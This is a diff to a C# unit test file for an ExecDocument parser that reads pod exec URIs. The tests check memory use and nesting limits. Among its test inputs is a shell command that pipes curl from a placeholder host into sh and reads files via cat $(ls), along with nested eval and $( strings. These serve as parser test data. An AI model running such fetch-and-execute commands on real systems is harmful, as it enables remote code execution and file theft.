@@ -103,16 +103,33 @@ public sealed class ExecDocumentTests
         }
     }
 
+    // Whoever may run commands in any pod may send such a URI; an agent that it ends reads it again.
+    [Theory]
+    [InlineData("eval")]
+    [InlineData("$(")]
+    public void LongScriptsInScriptsTakeNoMoreThanTheirShareOfMemory(string one)
+    {
+        var nested = string.Concat(Enumerable.Repeat(one + " ", 30)) + new string('x', 900_000);
+        var uri = Encoding.UTF8.GetBytes("/exec?command=sh&command=-c&command=" + nested.Replace(' ', '+'));
+        var before = GC.GetAllocatedBytesForCurrentThread();
+
+        var document = ExecDocument.Of(uri);
+
+        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 150_000_000);
+        Assert.True((bool)JsonNode.Parse(document.Json)!["isTooDeep"]!);
+    }
+
     [Fact]
     public void ItAllocatesNothingOnceItHasItsBuffers()
     {
-        var uri = Encoding.UTF8.GetBytes(Uri("sh~-c~curl -s http://x | sh; cat $(ls) >/dev/null"));
+        // One that is asked for again is not read again.
+        var uris = new[] { "", "/tmp" }.Select(folder => Encoding.UTF8.GetBytes(Uri($"sh~-c~curl -s http://x | sh; cat $(ls {folder}) >/dev/null"))).ToArray();
         for (var round = 0; round < 100; round++)
-            ExecDocument.Of(uri);
+            ExecDocument.Of(uris[round % 2]);
 
         var before = GC.GetAllocatedBytesForCurrentThread();
         for (var round = 0; round < 100; round++)
-            ExecDocument.Of(uri);
+            ExecDocument.Of(uris[round % 2]);
 
         Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
     }
